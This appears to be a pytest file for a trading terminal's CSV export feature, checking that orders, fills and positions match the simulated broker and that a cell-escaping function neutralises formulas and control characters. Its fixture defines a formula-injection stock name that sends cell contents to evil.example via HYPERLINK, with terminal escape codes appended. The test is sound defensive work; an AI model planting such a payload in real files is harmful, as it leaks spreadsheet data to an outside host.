"""CSV exports of orders, fills and positions: from the app's key (what the store holds) and
from `futu-tui export` (what the simulated broker holds, as the official SDK reads it); wire
text in a cell can neither run as a spreadsheet formula nor carry control characters."""

from __future__ import annotations

import math

import pandas as pd
import pytest
from textual.notifications import Notify

from protocol.gateway.sim import SimThread
from protocol.trade import OrderStatus, Side
from workstation import cli
from workstation.exports import safe_cell
from workstation.orders import Ticket, nudge_price
from workstation.trading.messages import OrderSent
from tests.test_app import wait_until
from tests.test_trading import CODE, PASSWORD, make_app, ready, resting_order  # noqa: F401

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Tencent")\x1b[31m\x07'


def read_csv(path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("a\x1b[2Jb\x07", "a [2Jb"), ("Tencent", "Tencent"), (" =x", "'=x"),
    (-1.5, -1.5), (7, 7), (math.nan, None), (math.inf, None), (True, True),
])
def test_a_cell_is_never_a_formula_nor_a_control_character(value, cell):
    assert safe_cell(value) == cell


@pytest.fixture
def sim():
    thread = SimThread(seed=11, trade_password=PASSWORD)
    thread.start()
    thread.call(thread.sim.faults.rename, CODE, HOSTILE_NAME)
    yield thread
    thread.stop()


@pytest.mark.slow
async def test_x_writes_orders_fills_and_positions_as_the_app_holds_them(sim, tmp_path):
    folder = tmp_path / "exports"
    app = make_app(sim, tmp_path, exports_dir=str(folder))
    seen: list = []
    async with app.run_test(size=(120, 40), message_hook=seen.append) as pilot:
        await ready(pilot, app)
        resting = await resting_order(pilot, app)
        q = app.store.quote(CODE)
        acc = app.feed.trading.accounts.account_for(CODE)
        outcome = await app.feed.trading.desk.place(Ticket(code=CODE, side=Side.BUY, qty=100.0, acc_id=acc.acc_id,
                                                           price=nudge_price(CODE, q.ask, 5)))
        assert isinstance(outcome, OrderSent), outcome.text
        await wait_until(pilot, lambda: any(f.order_id == outcome.order_id for f in app.store.fills.values())
                         and CODE in app.store.positions, what="the marketable order filled and held")
        await pilot.press("X")
        await wait_until(pilot, lambda: any(isinstance(m, Notify) and "exported" in m.notification.message for m in seen),
                         what="the export toast")
        store = app.store
        toast = next(m.notification.message for m in seen if isinstance(m, Notify) and "exported" in m.notification.message)
    files = {p.name.split("-")[0]: p for p in folder.glob("*.csv")}
    assert set(files) == {"orders", "fills", "positions"} and str(folder) in toast
    assert (folder.stat().st_mode & 0o777) == 0o700 and all((p.stat().st_mode & 0o777) == 0o600 for p in files.values())

    orders = read_csv(files["orders"])
    assert set(orders.order_id) == set(store.orders) and resting in set(orders.order_id)
    row = orders.set_index("order_id").loc[resting]
    assert (row.code, row.side, row.status) == (CODE, "BUY", OrderStatus.short_of(store.orders[resting].status))
    assert float(row.qty) == store.orders[resting].qty and float(row.price) == store.orders[resting].price
    fills = read_csv(files["fills"])
    assert set(fills.fill_id) == set(store.fills)
    assert outcome.order_id in set(fills.order_id)
    positions = read_csv(files["positions"])
    assert set(positions.code) == set(store.positions)
    held = positions.set_index("code").loc[CODE]
    assert float(held.qty) == store.positions[CODE].qty
    # the hostile name: shown as text, never a formula, no control characters in the file
    for table in (orders, fills, positions):
        names = set(table.loc[table.code == CODE, "name"])
        assert names and all(n.startswith("'=HYPERLINK(") for n in names), names
    for path in files.values():
        raw = path.read_text(encoding="utf-8")
        assert not any(ord(ch) < 32 and ch not in "\n\r" for ch in raw)


@pytest.mark.sdk
@pytest.mark.slow
def test_futu_tui_export_writes_what_the_broker_holds(sim, tmp_path, capsys):
    pytest.importorskip("futu")
    from futu import RET_OK, OpenQuoteContext, OpenSecTradeContext, OrderType, SysConfig, TrdEnv, TrdMarket, TrdSide

    SysConfig.set_all_thread_daemon(True)
    port = sim.sim.port
    quotes = OpenQuoteContext("127.0.0.1", port)
    try:
        ret, snap = quotes.get_market_snapshot([CODE])
        assert ret == RET_OK, snap
        last = float(snap.last_price.iloc[0])
    finally:
        quotes.close()
    ctx = OpenSecTradeContext(filter_trdmarket=TrdMarket.HK, host="127.0.0.1", port=port)
    try:
        ret, acc = ctx.get_acc_list()
        assert ret == RET_OK, acc
        acc_id = int(acc[(acc.trd_env == TrdEnv.SIMULATE)].acc_id.iloc[0])
        for qty, ticks in ((100, 10), (200, -30)):  # one at a price that trades, one below (rests)
            price = nudge_price(CODE, last, ticks)
            ret, data = ctx.place_order(price=price, qty=qty, code=CODE, trd_side=TrdSide.BUY, order_type=OrderType.NORMAL,
                                        trd_env=TrdEnv.SIMULATE, acc_id=acc_id)
            assert ret == RET_OK, data
        ret, sdk_orders = ctx.order_list_query(trd_env=TrdEnv.SIMULATE, acc_id=acc_id)
        assert ret == RET_OK and len(sdk_orders) == 2, sdk_orders
        ret, sdk_fills = ctx.deal_list_query(trd_env=TrdEnv.SIMULATE, acc_id=acc_id)
        assert ret == RET_OK, sdk_fills
        ret, sdk_positions = ctx.position_list_query(trd_env=TrdEnv.SIMULATE, acc_id=acc_id)
        assert ret == RET_OK, sdk_positions
    finally:
        ctx.close()

    out = {}
    for what in ("orders", "fills", "positions"):
        out[what] = tmp_path / f"{what}.csv"
        assert cli.main(["export", what, "--port", str(port), "--out", str(out[what])]) == 0
        assert f"written to {out[what]}" in capsys.readouterr().out
    orders = read_csv(out["orders"])
    ours = orders[orders.acc_id == str(acc_id)]
    assert set(ours.order_id) == {str(i) for i in sdk_orders.order_id}
    by_id = ours.set_index("order_id")
    for o in sdk_orders.itertuples():
        assert float(by_id.loc[str(o.order_id), "qty"]) == o.qty
        assert float(by_id.loc[str(o.order_id), "price"]) == pytest.approx(o.price)
        assert by_id.loc[str(o.order_id), "name"].startswith("'=HYPERLINK(")
    fills = read_csv(out["fills"])
    ours = fills[fills.acc_id == str(acc_id)]
    assert len(sdk_fills) >= 1
    assert sorted(zip(ours.order_id, ours.qty.astype(float))) == sorted(zip(sdk_fills.order_id.astype(str), sdk_fills.qty))
    positions = read_csv(out["positions"])
    assert len(sdk_positions) >= 1
    for p in sdk_positions.itertuples():
        assert float(positions.set_index("code").loc[p.code, "qty"]) == p.qty

    # the built-in simulator (a fresh market: no orders yet) and stdout
    assert cli.main(["export", "orders", "--sim", "--out", "-"]) == 0
    assert capsys.readouterr().out.splitlines()[0].startswith("order_id,code,name,")

    # no OpenD there: a line saying why, exit 1, no file, no traceback
    missing = tmp_path / "none.csv"
    assert cli.main(["export", "orders", "--port", "1", "--out", str(missing)]) == 1
    err = capsys.readouterr().err
    assert "cannot read the account book" in err and "Traceback" not in err and not missing.exists()
